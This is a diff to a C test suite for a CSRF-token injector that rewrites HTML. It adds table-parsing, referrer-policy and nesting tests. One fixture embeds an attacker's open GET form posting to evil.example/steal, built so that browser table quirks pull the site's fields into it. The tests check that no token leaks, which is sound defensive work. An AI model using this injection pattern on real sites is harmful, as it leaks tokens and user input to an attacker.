@@ -25,6 +25,9 @@
 #define IN "<input type=\"hidden\" name=\"" F "\" value=\"" T "\">"
 #define MT "<meta name=\"csrf-param\" content=\"" F "\"><meta name=\"csrf-token\" content=\"" T "\">"
 #define PF "<form method=post>"
+/* what CSRF_INJECT_OPT_RAISE_REFERRER adds */
+#define RM "<meta name=\"referrer\" content=\"same-origin\">"
+#define NRM "<meta name=referrer content=no-referrer>"
 #define CL "</form>"
 
 /* The bound csrf.h documents. */
@@ -398,8 +401,83 @@ static const row rows[] = {
     {"noscript style", "<noscript><style>.js{display:none}</style></noscript>" RF CL,
      "<noscript><style>.js{display:none}</style></noscript>" RF IN CL, 1},
     {"noscript end tag attrs", "<noscript>x</noscript a=b>" RF CL, "<noscript>x</noscript a=b>" RF IN CL, 1},
+
+/* The table modes. A form start tag in a table outside a cell or caption
+ * is inserted and popped at once ("in table", HTML 13.2.6.4.9): nothing
+ * becomes its child, its fields belong to it through the form element
+ * pointer only, and when the adoption agency or foster parenting moves
+ * them browsers give them to the nearest form among their ancestors. The
+ * outside review's page: an attacker's GET form left open around the
+ * table, and the site's own <a> after the real form moves the field, q
+ * and the button into it. No token there; a form in a cell, a caption or
+ * around the table keeps its own. */
+#define EG "<p>comment: <form method=get action=https://evil.example/steal><div></form><table>"
+#define SITE "<form method=post action=/a><input name=q><button id=go>go</button></form><p><a href=/help>help</a>"
+#define SF "<form method=post action=/a>"
+#define SITE_IN SF IN "<input name=q><button id=go>go</button></form><p><a href=/help>help</a>"
     {"table form", "<table><form method=post><tr><td><input name=a></td></tr></form></table>",
-     "<table><form method=post>" IN "<tr><td><input name=a></td></tr>" CL "</table>", 1},
+     "<table><form method=post><tr><td><input name=a></td></tr></form></table>", 0},
+    {"review table a", EG "<a><div></p>" SITE, EG "<a><div></p>" SITE, 0},
+    {"review table b", EG "<b><div></p>" SITE "</b>", EG "<b><div></p>" SITE "</b>", 0},
+    {"review table nobr", EG "<tr><nobr><div>" SITE "<nobr>", EG "<tr><nobr><div>" SITE "<nobr>", 0},
+    {"review table after cell", EG "<td></td><a><div>" SITE, EG "<td></td><a><div>" SITE, 0},
+    {"table row form", "<table><tr>" SITE, "<table><tr>" SITE, 0},
+    {"table body form", "<TABLE><TBODY>" SITE, "<TABLE><TBODY>" SITE, 0},
+    {"form in td", "<table><tr><td>" SITE "</td></tr></table>", "<table><tr><td>" SITE_IN "</td></tr></table>", 1},
+    {"form in th", "<table><thead><tr><th>" SITE "</th></tr></thead></table>",
+     "<table><thead><tr><th>" SITE_IN "</th></tr></thead></table>", 1},
+    {"form in bare td", "<table><td>" SITE, "<table><td>" SITE_IN, 1},
+    {"form in caption", "<table><caption>" SITE "</caption></table>", "<table><caption>" SITE_IN "</caption></table>",
+     1},
+    {"form around table", SF "<table><tr><td><input name=q></td></tr></table>" CL,
+     SF IN "<table><tr><td><input name=q></td></tr></table>" CL, 1},
+    {"form after table", "<table><tr><td>x</td></tr></table>" SITE, "<table><tr><td>x</td></tr></table>" SITE_IN, 1},
+    {"form after cell end", "<table><tr><td>x</td>" SITE, "<table><tr><td>x</td>" SITE, 0},
+    {"form after row end", "<table><tr><td>x</tr>" SITE, "<table><tr><td>x</tr>" SITE, 0},
+    {"form after caption end", "<table><caption>x</caption>" SITE, "<table><caption>x</caption>" SITE, 0},
+    {"form in second cell", "<table><tr><td>x<td>" SITE, "<table><tr><td>x<td>" SITE_IN, 1},
+    {"th end in td dropped", "<table><tr><td></th>" SITE, "<table><tr><td></th>" SITE_IN, 1},
+    {"td end in caption dropped", "<table><caption></td></tr>" SITE, "<table><caption></td></tr>" SITE_IN, 1},
+    {"thead end in tbody cell dropped", "<table><tr><td></thead>" SITE, "<table><tr><td></thead>" SITE_IN, 1},
+    {"tbody end closes the cell", "<table><tr><td></tbody>" SITE, "<table><tr><td></tbody>" SITE, 0},
+    {"col closes the cell", "<table><tr><td><col>" SITE, "<table><tr><td><col>" SITE, 0},
+    {"colgroup closes the caption", "<table><caption><colgroup>" SITE, "<table><caption><colgroup>" SITE, 0},
+    {"tr closes the cell", "<table><tr><td><tr>" SITE, "<table><tr><td><tr>" SITE, 0},
+    {"table in table", "<table><table>" SITE, "<table><table>" SITE, 0},
+    {"table in a cell", "<table><tr><td><table></table>" SITE, "<table><tr><td><table></table>" SITE_IN, 1},
+    {"nested cells", "<table><tr><td><table><tr><td>" SITE "</table>" SITE,
+     "<table><tr><td><table><tr><td>" SITE_IN "</table>" SITE_IN, 2},
+    {"nested table row", "<table><tr><td><table></table></td>" SITE, "<table><tr><td><table></table></td>" SITE, 0},
+    {"table end outside tables", "</table><td>" SITE, "</table><td>" SITE_IN, 1},
+    {"table in template", "<template><table></template>" SITE, "<template><table></template>" SITE_IN, 1},
+    {"table breaks out of svg", "<svg><table>" SITE, "<svg><table>" SITE, 0},
+    {"td in svg is svg", "<table><tr><td><svg><td></td></svg>" SITE, "<table><tr><td><svg><td></td></svg>" SITE_IN, 1},
+    {"form pointer from a table form", "<table><form method=post></form><tr><td>" SITE,
+     "<table><form method=post></form><tr><td>" SITE_IN, 1},
+    {"get form in table", "<table><form method=get></form></table>" SITE,
+     "<table><form method=get></form></table>" SITE_IN, 1},
+    {"select closed by a cell", "<table><tr><td><select><option>a<td>" SITE,
+     "<table><tr><td><select><option>a<td>" SITE_IN, 1},
+    {"select closed by a cell end", "<table><tr><td><select><option>a</td>" SITE,
+     "<table><tr><td><select><option>a</td>" SITE, 0},
+    {"table in select", "<table><tr><td><select><table>" SITE, "<table><tr><td><select><table>" SITE, 0},
+    {"row end in select", "<table><select></tr>" SITE, "<table><select></tr>" SITE, 0},
+    {"noscript table", "<noscript><table><tr><td>x</td></tr></table></noscript>" SITE,
+     "<noscript><table><tr><td>x</td></tr></table></noscript>" SITE_IN, 1},
+    {"noscript table left open", "<noscript><table></noscript>" SITE, "<noscript><table></noscript>" SITE, 0},
+    {"noscript cell end", "<table><tr><td><noscript></td></noscript>" SITE,
+     "<table><tr><td><noscript></td></noscript>" SITE, 0},
+    /* a base in a table outside a cell goes before the table: ahead of one read in a cell */
+    {"foster-parented base", "<table><tr><td>" EB "</td><base href=\"/app/\"></table>" SITE,
+     "<table><tr><td>" EB "</td><base href=\"/app/\"></table>" SITE, 0},
+    {"foster-parented base first", "<table><tr><td><base href=\"/app/\"></td>" EB "</table>" SITE,
+     "<table><tr><td><base href=\"/app/\"></td>" EB "</table>" SITE, 0},
+    {"base in a later cell", "<table><tr><td><base href=\"/app/\"><td>" EB "</table>" SITE,
+     "<table><tr><td><base href=\"/app/\"><td>" EB "</table>" SITE_IN, 1},
+#undef EG
+#undef SITE
+#undef SF
+#undef SITE_IN
     {"phpmyadmin action",
      "<form method=\"post\" action=\"index.php&#x3F;route&#x3D;&#x2F;preferences&#x2F;features\">" CL,
      "<form method=\"post\" action=\"index.php&#x3F;route&#x3D;&#x2F;preferences&#x2F;features\">" IN CL, 1},
@@ -629,6 +707,10 @@ static void sink_init(sink *s, const char *mem)
 	s->mem_len = csrf_inject_size();
 }
 
+/* The options every injector of the test is given (the referrer table sets
+ * CSRF_INJECT_OPT_RAISE_REFERRER). */
+static unsigned options;
+
 /* An injector in exactly csrf_inject_size() bytes flush against a guard
  * page: a write past its state crashes. */
 static csrf_inject *new_injector(char **mem)
@@ -641,6 +723,7 @@ static csrf_inject *new_injector(char **mem)
 	csrf_inject *inj = NULL;
 	assert_int_equal(csrf_inject_init(*mem, sz, SELF, strlen(SELF), F, strlen(F), T, strlen(T), &inj), CSRF_OK);
 	assert_non_null(inj);
+	assert_int_equal(csrf_inject_options(inj, options), CSRF_OK);
 	return inj;
 }
 
@@ -687,6 +770,12 @@ static void expect_output(const char *name, const char *mode, size_t at, const s
 	}
 	if (s->plain_len != in_len || (in_len && memcmp(s->plain, in, in_len) != 0))
 		fail_msg("%s (%s %zu): output without the insertions is not the input", name, mode, at);
+}
+
+/* Insertion k of s, at byte at of its output, is the element lit. */
+static int is_piece(const sink *s, size_t k, size_t at, const char *lit)
+{
+	return s->ins_n[k] == strlen(lit) && memcmp(s->out + at, lit, s->ins_n[k]) == 0;
 }
 
 static uint32_t xorshift(uint32_t *x)
@@ -752,7 +841,7 @@ static void check_doc(const char *name, const char *in, size_t len, const char *
 	 * tag ends, a form's field once its end tag's name has been read (its
 	 * bytes are held until then; the stream's end lets them go without
 	 * the field) */
-	size_t prev_n = 0;
+	size_t prev_n = 0, prev_in = 0, prev_other = 0;
 	for (size_t m = 0; m <= len; m++) {
 		if (m == 0) {
 			/* nothing to feed: the injector emits nothing */
@@ -770,24 +859,50 @@ static void check_doc(const char *name, const char *in, size_t len, const char *
 		expect_output(name, "prefix", m, &s, s.out, s.len, in, m);
 		if (count != s.n_ins)
 			fail_msg("%s (prefix %zu): %u elements counted, %zu inserted", name, m, count, s.n_ins);
-		/* the insertions are the first ones of the full output, where it has them */
-		size_t off = 0, foff = 0;
-		for (size_t k = 0; k < s.n_ins; k++) {
-			if (k >= full.n_ins || s.ins_at[k] != full.ins_at[k] || s.ins_n[k] != full.ins_n[k] ||
-			    memcmp(s.out + s.ins_at[k] + off, full.out + full.ins_at[k] + foff, s.ins_n[k]) != 0)
+		/* the insertions are the first ones of the full output, where it
+		 * has them. With the referrer raise on, a form held at the
+		 * prefix's end gets no field, so a meta inserted inside it comes
+		 * without the field the full output has before it; and the raise
+		 * of a held form goes after its last no-referrer meta, which a
+		 * longer prefix may move on: raises are checked by the whole
+		 * outputs above only. */
+		size_t sp[64], fp[64], off = 0;
+		for (size_t k = 0; k < s.n_ins; k++)
+			sp[k] = s.ins_at[k] + off, off += s.ins_n[k];
+		off = 0;
+		for (size_t k = 0; k < full.n_ins; k++)
+			fp[k] = full.ins_at[k] + off, off += full.ins_n[k];
+		for (size_t k = 0, j = 0; k < s.n_ins; k++, j++) {
+			if (options && is_piece(&s, k, sp[k], RM)) {
+				j--;
+				continue;
+			}
+			while (options && j < full.n_ins && !is_piece(&s, k, sp[k], IN) &&
+			       (is_piece(&full, j, fp[j], IN) || is_piece(&full, j, fp[j], RM)))
+				j++;
+			while (options && j < full.n_ins && is_piece(&full, j, fp[j], RM))
+				j++;
+			if (j >= full.n_ins || s.ins_at[k] != full.ins_at[j] || s.ins_n[k] != full.ins_n[j] ||
+			    memcmp(s.out + sp[k], full.out + fp[j], s.ins_n[k]) != 0)
 				fail_msg("%s (prefix %zu): insertion %zu is not the full output's", name, m, k);
-			off += s.ins_n[k];
-			foff += full.ins_n[k];
 		}
 		if (s.n_ins < prev_n)
 			fail_msg("%s (prefix %zu): an insertion went away", name, m);
-		for (size_t k = prev_n; k < s.n_ins; k++) {
+		/* the new ones: fields and metas counted apart (a field goes in
+		 * before a meta inside its form that came out at a shorter
+		 * prefix) */
+		size_t n_in = 0, n_other = 0;
+		for (size_t k = 0; k < s.n_ins; k++) {
 			const char *piece = s.out + s.ins_at[k];
 			size_t before = 0;
 			for (size_t j = 0; j < k; j++)
 				before += s.ins_n[j];
 			piece += before;
-			int meta = s.ins_n[k] == strlen(MT) && memcmp(piece, MT, strlen(MT)) == 0;
+			int is_in = s.ins_n[k] == strlen(IN) && memcmp(piece, IN, strlen(IN)) == 0;
+			if (is_in ? n_in++ < prev_in : n_other++ < prev_other)
+				continue;
+			int meta = (s.ins_n[k] == strlen(MT) && memcmp(piece, MT, strlen(MT)) == 0) ||
+			           (s.ins_n[k] == strlen(RM) && memcmp(piece, RM, strlen(RM)) == 0);
 			unsigned char last = (unsigned char)in[m - 1];
 			int form_end = m >= 7 && strncasecmp(in + m - 7, "</form", 6) == 0 &&
 			               (last == '>' || last == '/' || last == ' ' || last == '\t' || last == '\n' ||
@@ -796,6 +911,8 @@ static void check_doc(const char *name, const char *in, size_t len, const char *
 				fail_msg("%s (prefix %zu): insertion %zu came before what decides it", name, m, k);
 		}
 		prev_n = s.n_ins;
+		prev_in = n_in;
+		prev_other = n_other;
 		if (m == len && s.n_ins != full.n_ins)
 			fail_msg("%s: the whole input fed at once differs", name);
 		sink_free(&s);
@@ -810,6 +927,113 @@ static void test_table(void **state)
 		const row *r = &rows[i];
 		check_doc(r->name, r->in, strlen(r->in), r->want, strlen(r->want), r->count);
 	}
+}
+
+/* CSRF_INJECT_OPT_RAISE_REFERRER: a same-origin meta right after every
+ * meta a browser reads as no-referrer, wherever it stands, and nothing
+ * after any other. */
+static const row referrer_rows[] = {
+    {"referrer head", "<head>" NRM "</head>", "<head>" MT NRM RM "</head>", 2},
+    {"referrer quoted", "<meta name=\"referrer\" content=\"no-referrer\">",
+     "<meta name=\"referrer\" content=\"no-referrer\">" RM, 1},
+    {"referrer self-closing", "<meta name='referrer' content='no-referrer'/>",
+     "<meta name='referrer' content='no-referrer'/>" RM, 1},
+    {"referrer content first", "<meta content=no-referrer name=referrer>",
+     "<meta content=no-referrer name=referrer>" RM, 1},
+    {"referrer case", "<META NAME=Referrer CONTENT=\"No-Referrer\">", "<META NAME=Referrer CONTENT=\"No-Referrer\">" RM,
+     1},
+    {"referrer blanks", "<meta name=referrer content=\" no-referrer\t\">",
+     "<meta name=referrer content=\" no-referrer\t\">" RM, 1},
+    {"referrer never", "<meta name=referrer content=\"never\">", "<meta name=referrer content=\"never\">" RM, 1},
+    {"referrer list last", "<meta name=referrer content=\"origin, no-referrer\">",
+     "<meta name=referrer content=\"origin, no-referrer\">" RM, 1},
+    {"referrer list other", "<meta name=referrer content=\"no-referrer, origin\">",
+     "<meta name=referrer content=\"no-referrer, origin\">", 0},
+    {"referrer refs", "<meta name=\"&#114;eferrer\" content=\"no&#x2d;referrer\">",
+     "<meta name=\"&#114;eferrer\" content=\"no&#x2d;referrer\">" RM, 1},
+    {"referrer same-origin", "<meta name=referrer content=same-origin>", "<meta name=referrer content=same-origin>", 0},
+    {"referrer strict-origin", "<meta name=referrer content=strict-origin>",
+     "<meta name=referrer content=strict-origin>", 0},
+    {"referrer default", "<meta name=referrer content=default>", "<meta name=referrer content=default>", 0},
+    {"referrer empty", "<meta name=referrer content>", "<meta name=referrer content>", 0},
+    {"referrer no content", "<meta name=referrer>", "<meta name=referrer>", 0},
+    {"referrer other name", "<meta name=referer content=no-referrer>", "<meta name=referer content=no-referrer>", 0},
+    {"referrer name blanks", "<meta name=\" referrer\" content=no-referrer>",
+     "<meta name=\" referrer\" content=no-referrer>", 0},
+    {"referrer http-equiv", "<meta http-equiv=Referrer-Policy content=no-referrer>",
+     "<meta http-equiv=Referrer-Policy content=no-referrer>", 0},
+    {"referrer first name wins", "<meta name=description name=referrer content=no-referrer>",
+     "<meta name=description name=referrer content=no-referrer>", 0},
+    {"referrer first content wins", "<meta name=referrer content=origin content=no-referrer>",
+     "<meta name=referrer content=origin content=no-referrer>", 0},
+    {"referrer end tag", "</meta name=referrer content=no-referrer>", "</meta name=referrer content=no-referrer>", 0},
+    {"referrer metadata", "<metadata name=referrer content=no-referrer>",
+     "<metadata name=referrer content=no-referrer>", 0},
+    {"referrer after head", "<head></head><body><p>" NRM, "<head>" MT "</head><body><p>" NRM RM, 2},
+    {"referrer two", "<head>" NRM "<meta name=referrer content=origin>" NRM,
+     "<head>" MT NRM RM "<meta name=referrer content=origin>" NRM RM, 3},
+    {"referrer in comment", "<!--" NRM "-->", "<!--" NRM "-->", 0},
+    {"referrer in script", "<script>'" NRM "'</script>", "<script>'" NRM "'</script>", 0},
+    {"referrer in title", "<title>" NRM "</title>" NRM, "<title>" NRM "</title>" NRM RM, 1},
+    {"referrer in svg", "<svg>" NRM "</svg>", "<svg>" NRM RM "</svg>", 1},
+    {"referrer in template", "<template>" NRM "</template>", "<template>" NRM RM "</template>", 1},
+    /* inside a form whose bytes are held: at its place, once it is let out */
+    {"referrer held form", PF "<input name=a>" NRM "<input name=b>" CL,
+     PF IN "<input name=a>" NRM RM "<input name=b>" CL, 2},
+    {"referrer held form twice", PF NRM "<i>" NRM "<b>" CL, PF IN NRM "<i>" NRM RM "<b>" CL, 2},
+    {"referrer held form no token", PF NRM "<button formmethod=get>" CL, PF NRM RM "<button formmethod=get>" CL, 1},
+    {"referrer held form unclosed", PF NRM "<input>", PF NRM RM "<input>", 1},
+    {"referrer held form with head", PF NRM "<head>" NRM CL, PF IN NRM "<head>" MT NRM RM CL, 3},
+    {"referrer held form head first", PF "<head>" NRM CL, PF IN "<head>" MT NRM RM CL, 3},
+    {"referrer get form", "<form>" NRM CL, "<form>" NRM RM CL, 1},
+    {"referrer after form", PF CL NRM, PF IN CL NRM RM, 2},
+};
+
+static void test_referrer(void **state)
+{
+	(void)state;
+	options = CSRF_INJECT_OPT_RAISE_REFERRER;
+	for (size_t i = 0; i < sizeof referrer_rows / sizeof referrer_rows[0]; i++) {
+		const row *r = &referrer_rows[i];
+		check_doc(r->name, r->in, strlen(r->in), r->want, strlen(r->want), r->count);
+	}
+	/* off (the default): every meta passes alone */
+	options = 0;
+	check_doc("referrer off", "<head>" NRM, strlen("<head>" NRM), "<head>" MT NRM, strlen("<head>" MT NRM), 1);
+}
+
+/* csrf_inject_options: known bits only, before the stream is fed; they
+ * last through finish and reset. */
+static void test_options(void **state)
+{
+	(void)state;
+	char *mem;
+	sink s;
+	unsigned count;
+	csrf_inject *inj = new_injector(&mem);
+	assert_int_equal(csrf_inject_options(NULL, 0), CSRF_ERR_ARG);
+	assert_int_equal(csrf_inject_options(inj, 0x2), CSRF_ERR_ARG);
+	assert_int_equal(csrf_inject_options(inj, ~0u), CSRF_ERR_ARG);
+	assert_int_equal(csrf_inject_options(inj, CSRF_INJECT_OPT_RAISE_REFERRER), CSRF_OK);
+	for (int round = 0; round < 2; round++) {
+		sink_init(&s, mem);
+		assert_int_equal(csrf_inject_feed(inj, NRM, strlen(NRM), sink_emit, &s), CSRF_OK);
+		assert_int_equal(csrf_inject_options(inj, 0), CSRF_ERR_ARG); /* fed */
+		assert_int_equal(csrf_inject_finish(inj, sink_emit, &s, &count), CSRF_OK);
+		assert_int_equal(count, 1);
+		assert_int_equal(s.len, strlen(NRM RM));
+		assert_memory_equal(s.out, NRM RM, s.len);
+		sink_free(&s);
+	}
+	/* between streams they may change */
+	assert_int_equal(csrf_inject_options(inj, 0), CSRF_OK);
+	sink_init(&s, mem);
+	assert_int_equal(csrf_inject_feed(inj, NRM, strlen(NRM), sink_emit, &s), CSRF_OK);
+	assert_int_equal(csrf_inject_reset(inj, &count), CSRF_OK);
+	assert_int_equal(count, 0);
+	assert_int_equal(s.len, strlen(NRM));
+	sink_free(&s);
+	tu_guard_free(mem);
 }
 
 /* Builds "<form method=post action=\"" pre + fill x n + post "\">". */
@@ -1197,6 +1421,17 @@ static void test_status(void **state)
 	    {RF CL PF "<noscript><input type=submit formmethod=get></noscript>" CL,
 	     CSRF_INJECT_NOSCRIPT_BUTTON | CSRF_INJECT_LATE_BUTTON},
 	    {"<form id=f method=post></form><noscript><button form=f formaction=x></noscript>", CSRF_INJECT_LATE_OWNER},
+	    /* a form start tag a table holds outside a cell is popped at once */
+	    {"<table>" RF CL, CSRF_INJECT_TABLE_FORM},
+	    {"<table><tr>" RF CL "</table>", CSRF_INJECT_TABLE_FORM},
+	    {"<table><tr><td>" RF CL, 0},
+	    {"<table><caption>" RF CL, 0},
+	    {RF "<table><tr><td>" CL, 0},
+	    {"<table><form method=get>" CL, 0},
+	    {"<table>" EF CL, 0},
+	    {"<table><tr><td><select><table>", CSRF_INJECT_SELECT | CSRF_INJECT_STOPPED},
+	    {"<noscript><table></noscript>", CSRF_INJECT_NOSCRIPT | CSRF_INJECT_STOPPED},
+	    {"<table><tr><td><base href=/app/></td>" EB "</table>" RF CL, CSRF_INJECT_BASE},
 	};
 	for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
 		const char *in = cases[i].in;
@@ -1233,13 +1468,13 @@ static void test_status(void **state)
 	assert_int_equal(csrf_inject_status(NULL), 0);
 	/* every bit has its own phrase */
 	size_t all = 0; /* an adapter's line with every phrase */
-	for (unsigned bit = 1; bit <= CSRF_INJECT_NOSCRIPT_BUTTON; bit <<= 1) {
+	for (unsigned bit = 1; bit <= CSRF_INJECT_TABLE_FORM; bit <<= 1) {
 		assert_string_not_equal(csrf_inject_status_str(bit), "unknown injector status");
 		all += strlen(csrf_inject_status_str(bit)) + 2;
 	}
 	assert_true(all < CSRF_INJECT_STATUS_TEXT_MAX);
 	assert_string_equal(csrf_inject_status_str(0), "unknown injector status");
-	assert_string_equal(csrf_inject_status_str(CSRF_INJECT_NOSCRIPT_BUTTON << 1), "unknown injector status");
+	assert_string_equal(csrf_inject_status_str(CSRF_INJECT_TABLE_FORM << 1), "unknown injector status");
 }
 
 /* A form longer than the hold gets no token, whatever the cuts; one that
@@ -1317,6 +1552,121 @@ static void test_long_form(void **state)
 	expect_output("plaintext", "whole", 0, &s, pt, strlen(pt), pt, strlen(pt)); /* nothing held */
 	sink_free(&s);
 	tu_guard_free(mem);
+}
+
+/* The status of in[0..len) fed in the chunks the cuts at[0..n) make. */
+static unsigned status_of(const char *in, size_t len, const size_t *at, size_t n)
+{
+	char *mem;
+	csrf_inject *inj = new_injector(&mem);
+	sink s;
+	sink_init(&s, mem);
+	size_t from = 0;
+	for (size_t k = 0; k <= n; k++) {
+		size_t to = k < n ? at[k] : len;
+		s.chunk = in + from;
+		s.chunk_len = to - from;
+		assert_int_equal(csrf_inject_feed(inj, in + from, to - from, sink_emit, &s), CSRF_OK);
+		from = to;
+	}
+	unsigned count;
+	s.chunk = NULL;
+	s.chunk_len = 0;
+	assert_int_equal(csrf_inject_finish(inj, sink_emit, &s, &count), CSRF_OK);
+	unsigned status = csrf_inject_status(inj);
+	sink_free(&s);
+	tu_guard_free(mem);
+	return status;
+}
+
+/* A held form that something other than its end tag settles (a submitter
+ * that sends it by GET, <plaintext>, a stop) near the hold's limit: too
+ * long or not is judged by its bytes up to there, so the status is the
+ * same however the stream is cut (before, fed whole it said GET_BUTTON or
+ * UNCLOSED, fed in pieces LONG_FORM). */
+static void test_long_form_stops(void **state)
+{
+	(void)state;
+	static const char *const tails[] = {"<button formmethod=get>",
+	                                    "<plaintext>",
+	                                    "<svg></p>",
+	                                    "<noscript><button formmethod=get></noscript>",
+	                                    "\x1b",
+	                                    "<select><table>"};
+	for (size_t t = 0; t < sizeof tails / sizeof tails[0]; t++) {
+		size_t tl = strlen(tails[t]);
+		const size_t fills[] = {CSRF_INJECT_HOLD_MAX - 64,     CSRF_INJECT_HOLD_MAX - tl,
+		                        CSRF_INJECT_HOLD_MAX - tl + 1, CSRF_INJECT_HOLD_MAX - tl + 2,
+		                        CSRF_INJECT_HOLD_MAX - 1,      CSRF_INJECT_HOLD_MAX,
+		                        CSRF_INJECT_HOLD_MAX + 1,      CSRF_INJECT_HOLD_MAX + 64};
+		for (size_t f = 0; f < sizeof fills / sizeof fills[0]; f++) {
+			size_t fill = fills[f], pl = strlen(PF), len = pl + fill + tl + strlen(CL);
+			char *in = malloc(len);
+			assert_non_null(in);
+			memcpy(in, PF, pl);
+			memset(in + pl, 'x', fill);
+			memcpy(in + pl + fill, tails[t], tl);
+			memcpy(in + pl + fill + tl, CL, strlen(CL));
+			unsigned whole = status_of(in, len, NULL, 0);
+			if (fill < CSRF_INJECT_HOLD_MAX - tl && (whole & CSRF_INJECT_LONG_FORM))
+				fail_msg("tail %zu, fill %zu: too long already", t, fill);
+			if (fill > CSRF_INJECT_HOLD_MAX && !(whole & CSRF_INJECT_LONG_FORM))
+				fail_msg("tail %zu, fill %zu: not too long (%#x)", t, fill, whole);
+			/* every cut around the limit and inside the tail, one at a time and all at once */
+			size_t at[96], n = 0;
+			for (size_t k = pl + fill - 8; k < len && n < 96; k++)
+				at[n++] = k;
+			for (size_t k = 0; k < n; k++) {
+				unsigned st = status_of(in, len, &at[k], 1);
+				if (st != whole)
+					fail_msg("tail %zu, fill %zu, cut at %zu: %#x, whole %#x", t, fill, at[k], st,
+					         whole);
+			}
+			unsigned bytes = status_of(in, len, at, n);
+			if (bytes != whole)
+				fail_msg("tail %zu, fill %zu, in pieces: %#x, whole %#x", t, fill, bytes, whole);
+			size_t pages[8], np = 0;
+			for (size_t k = 4096; k < len && np < 8; k += 4096)
+				pages[np++] = k;
+			unsigned paged = status_of(in, len, pages, np);
+			if (paged != whole)
+				fail_msg("tail %zu, fill %zu, in pages: %#x, whole %#x", t, fill, paged, whole);
+			free(in);
+		}
+	}
+}
+
+/* Tables nested through cells: 32 are followed, and a form in the
+ * innermost cell keeps its token; one more stops the injector (fail
+ * closed: no token from there on, and the status says why). */
+static void test_deep_tables(void **state)
+{
+	(void)state;
+	static const char open[] = "<table><tr><td>";
+	for (size_t depth = 31; depth <= 33; depth++) {
+		char in[33 * sizeof open + 64];
+		size_t n = 0;
+		for (size_t k = 0; k < depth; k++) {
+			memcpy(in + n, open, strlen(open));
+			n += strlen(open);
+		}
+		memcpy(in + n, PF CL, strlen(PF CL));
+		n += strlen(PF CL);
+		unsigned count;
+		sink s;
+		run(in, n, NULL, 0, &s, &count);
+		sink_free(&s);
+		unsigned status = status_of(in, n, NULL, 0);
+		size_t at[] = {n / 2, n - 4};
+		assert_int_equal(status_of(in, n, at, 2), status);
+		if (depth <= 32) {
+			assert_int_equal(count, 1);
+			assert_int_equal(status, 0);
+		} else {
+			assert_int_equal(count, 0);
+			assert_int_equal(status, CSRF_INJECT_TABLE_FORM | CSRF_INJECT_STOPPED);
+		}
+	}
 }
 
 /* A stopped stream passes the rest through untouched: no meta, no field. */
@@ -1539,6 +1889,8 @@ int main(void)
 {
 	const struct CMUnitTest tests[] = {
 	    cmocka_unit_test(test_table),
+	    cmocka_unit_test(test_referrer),
+	    cmocka_unit_test(test_options),
 	    cmocka_unit_test(test_long_actions),
 	    cmocka_unit_test(test_long_blank_action),
 	    cmocka_unit_test(test_init_args),
@@ -1547,6 +1899,8 @@ int main(void)
 	    cmocka_unit_test(test_emit_stops),
 	    cmocka_unit_test(test_port_origin),
 	    cmocka_unit_test(test_status),
+	    cmocka_unit_test(test_long_form_stops),
+	    cmocka_unit_test(test_deep_tables),
 	    cmocka_unit_test(test_long_form),
 	    cmocka_unit_test(test_stopped_passes),
 	    cmocka_unit_test(test_random_docs),
